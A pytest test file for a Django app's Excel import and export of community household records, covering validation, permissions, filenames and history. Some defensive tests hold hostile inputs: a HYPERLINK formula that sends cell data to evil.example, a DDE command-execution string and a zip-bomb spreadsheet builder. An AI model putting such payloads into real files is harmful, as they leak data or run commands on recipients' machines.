import io
from unittest import mock

from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from grid.households import excel
from grid.models import Household
from tests.grid.factories import make_household


def sheet(*rows, headers=excel.HEADERS):
    workbook = Workbook()
    workbook.active.append(list(headers))
    for row in rows:
        workbook.active.append(list(row))
    buffer = io.BytesIO()
    workbook.save(buffer)
    return SimpleUploadedFile("households.xlsx", buffer.getvalue(), content_type=excel.XLSX)


GOOD = ["NJ-03-01", "南街小区", "5", "2", "301", 3, "陈玉兰", "13812345678", "空巢老人、残障人士", ""]


def upload(client, file):
    return client.post(reverse("field:household_import"), {"file": file})


def test_a_valid_sheet_imports_households_with_their_tags(client3, tree):
    upload(client3, sheet(GOOD))
    household = Household.objects.get()
    assert (household.room, sorted(household.special_groups)) == ("301", ["残障人士", "空巢老人"])


def test_a_bad_row_imports_nothing_and_names_the_row(client3, tree):
    bad = ["NJ-03-01", "南街小区", "5", "2", "302", "三", "李华", "", "", ""]
    response = upload(client3, sheet(GOOD, bad))
    assert "第 3 行" in response.content.decode()
    assert not Household.objects.exists()


def test_a_micro_grid_of_another_grid_is_a_row_error(client3, tree):
    response = upload(client3, sheet(["NJ-04-01", *GOOD[1:]]))
    assert "不存在或不在您的网格内" in response.content.decode()
    assert not Household.objects.exists()


def test_an_unknown_special_group_is_a_row_error(client3, tree):
    response = upload(client3, sheet([*GOOD[:8], "外星人", ""]))
    assert "无法识别的特殊群体" in response.content.decode()


def test_a_bad_phone_is_a_row_error(client3, tree):
    response = upload(client3, sheet([*GOOD[:7], "123", "", ""]))
    assert "第 2 行" in response.content.decode()
    assert not Household.objects.exists()


def test_a_file_that_is_not_a_spreadsheet_gets_a_clear_message(client3, tree):
    response = upload(client3, SimpleUploadedFile("households.xlsx", b"not a zip at all"))
    assert "这不是 Excel 表格" in response.content.decode()


def test_wrong_headers_get_a_clear_message(client3, tree):
    response = upload(client3, sheet(GOOD, headers=["code", *excel.HEADERS[1:]]))
    assert "第一行必须是表头" in response.content.decode()
    assert not Household.objects.exists()


def test_the_same_household_twice_in_a_file_is_refused(client3, tree):
    response = upload(client3, sheet(GOOD, GOOD))
    assert "出现了两次" in response.content.decode()
    assert not Household.objects.exists()


def test_an_exported_sheet_imports_back_as_updates(client3, tree):
    household = make_household(people=2, groups=["disabled"])
    exported = load_workbook(io.BytesIO(client3.get(reverse("field:household_export")).content))
    exported.active.cell(row=2, column=6, value=5)
    buffer = io.BytesIO()
    exported.save(buffer)
    upload(client3, SimpleUploadedFile("back.xlsx", buffer.getvalue()))
    household.refresh_from_db()
    assert (Household.objects.count(), household.people, household.special_groups) == (1, 5, ["残障人士"])


def test_the_export_has_chinese_headers(client3, household):
    workbook = load_workbook(io.BytesIO(client3.get(reverse("field:household_export")).content))
    assert [cell.value for cell in workbook.active[1]] == excel.HEADERS


def test_a_number_typed_room_is_read_as_text(client3, tree):
    upload(client3, sheet([*GOOD[:4], 302.0, *GOOD[5:]]))
    assert Household.objects.get().room == "302"


def test_import_is_refused_to_a_read_only_role(client, tree):
    from tests.factories import make_chairman

    client.force_login(make_chairman())
    assert upload(client, sheet(GOOD)).status_code == 403


def test_a_row_with_several_problems_reports_all_of_them(client3, tree):
    bad = ["NJ-99-01", "南街小区", "5", "2", "302", "三", "", "123", "外星人", ""]
    errors = upload(client3, sheet(GOOD, bad)).context["errors"]
    assert len(errors) == 5
    assert {row for row, _message in errors} == {3}


def test_each_problem_of_a_row_is_named(client3, tree):
    bad = ["NJ-03-01", "南街小区", "5", "2", "302", "0", "李华", "123", "", ""]
    page = upload(client3, sheet(bad)).content.decode()
    assert "人数必须在 1 到 99 之间" in page
    assert page.count("第 2 行") == 2


def disposition(client, **params):
    return client.get(reverse("field:household_export"), params)["Content-Disposition"]


def test_the_export_is_named_in_chinese_for_the_workers_grid(client3, household):
    from django.utils import timezone

    today = f"{timezone.localdate():%Y%m%d}"
    assert f"filename*=UTF-8''%E4%BD%8F%E6%88%B7-NJ-03-{today}.xlsx" in disposition(client3)


def test_the_export_keeps_an_ascii_name_for_old_browsers(client3, household):
    assert 'filename="households-NJ-03-' in disposition(client3)


def test_the_export_of_one_micro_grid_is_named_after_it(client3, household):
    from grid.models import GridNode

    assert "-NJ-03-02-" in disposition(client3, micro_grid=GridNode.objects.get(code="NJ-03-02").pk)


def test_the_branch_export_is_named_after_the_community(client, branch, household):
    client.force_login(branch)
    assert "filename=\"households-NJ-2" in disposition(client)


FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"详情\")"


def exported_row(client):
    workbook = load_workbook(io.BytesIO(client.get(reverse("field:household_export")).content))
    return list(workbook.active.iter_rows(min_row=2, max_row=2))[0]


def test_a_compound_typed_like_a_formula_is_exported_as_text(client3, tree):
    make_household(compound=FORMULA)
    cell = exported_row(client3)[excel.FIELDS.index("compound")]
    assert (cell.value, cell.data_type) == (FORMULA, "s")


def test_a_note_typed_like_a_formula_is_exported_as_text(client3, tree):
    make_household(notes="+1+cmd|'/C calc'!A0")
    assert exported_row(client3)[excel.FIELDS.index("notes")].data_type == "s"


def test_a_formula_imported_as_text_is_exported_as_text_again(client3, tree):
    from openpyxl.cell import WriteOnlyCell

    workbook = Workbook(write_only=True)
    page = workbook.create_sheet()
    page.append(excel.HEADERS)
    contact = WriteOnlyCell(page, value="@contact")
    contact.data_type = "s"
    page.append([*GOOD[:6], contact, *GOOD[7:]])
    buffer = io.BytesIO()
    workbook.save(buffer)
    upload(client3, SimpleUploadedFile("households.xlsx", buffer.getvalue(), content_type=excel.XLSX))
    cell = exported_row(client3)[excel.FIELDS.index("contact_name")]
    assert (cell.value, cell.data_type) == ("@contact", "s")


def bomb(text):
    """A household sheet whose row's compound is `text`: deflated, a few kilobytes on disk however long."""
    import zipfile

    source = sheet(GOOD)
    original, out = zipfile.ZipFile(io.BytesIO(source.read())), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as crafted:
        for member in original.infolist():
            data = original.read(member)
            if member.filename.startswith("xl/worksheets/"):
                data = data.replace("南街小区".encode(), text.encode())  # the compound of the one row
            crafted.writestr(member.filename, data)
    return SimpleUploadedFile("households.xlsx", out.getvalue(), content_type=excel.XLSX)


def test_a_sheet_that_unpacks_too_large_is_refused_before_it_is_loaded(client3, tree, monkeypatch):
    monkeypatch.setattr(excel, "MAX_UNPACKED_BYTES", 1024 * 1024)
    file = bomb("A" * (2 * 1024 * 1024))
    assert file.size < 20_000
    with mock.patch.object(excel, "load_workbook", side_effect=AssertionError("loaded")):
        response = upload(client3, file)
    assert "解压后超过 1 MB" in response.content.decode()
    assert not Household.objects.exists()


def test_the_archive_limit_fits_a_full_household_sheet():
    assert excel.MAX_UNPACKED_BYTES >= 20 * 1024 * 1024


def test_a_cell_longer_than_excel_keeps_is_refused_with_a_message(client3, tree):
    response = upload(client3, bomb("A" * (excel.EXCEL_CELL_LIMIT + 1)))
    assert "超过 32767 个字符" in response.content.decode()
    assert not Household.objects.exists()


def _export(client):
    return SimpleUploadedFile("back.xlsx", client.get(reverse("field:household_export")).content)


def test_reimporting_an_unchanged_sheet_reports_0_changed(client3, tree):
    make_household(people=2, contact_phone="13812345678", groups=["disabled"], notes="独居")
    response = client3.post(reverse("field:household_import"), {"file": _export(client3)}, follow=True)
    assert "变更 0 户，未变 1 户" in response.content.decode()


def test_reimporting_an_unchanged_sheet_writes_no_history_rows(client3, tree):
    from grid.models import HouseholdTag

    make_household(people=2, groups=["disabled"])
    sheet_back = _export(client3)
    before = (Household.history.count(), HouseholdTag.history.count())
    upload(client3, sheet_back)
    assert (Household.history.count(), HouseholdTag.history.count()) == before


def test_a_changed_row_writes_one_history_row_with_the_real_diff(client3, tree):
    household = make_household(people=2)
    exported = load_workbook(io.BytesIO(client3.get(reverse("field:household_export")).content))
    exported.active.cell(row=2, column=6, value=5)
    buffer = io.BytesIO()
    exported.save(buffer)
    upload(client3, SimpleUploadedFile("back.xlsx", buffer.getvalue()))
    newest, previous = household.history.all()[:2]
    assert [change.field for change in newest.diff_against(previous).changes] == ["people"]
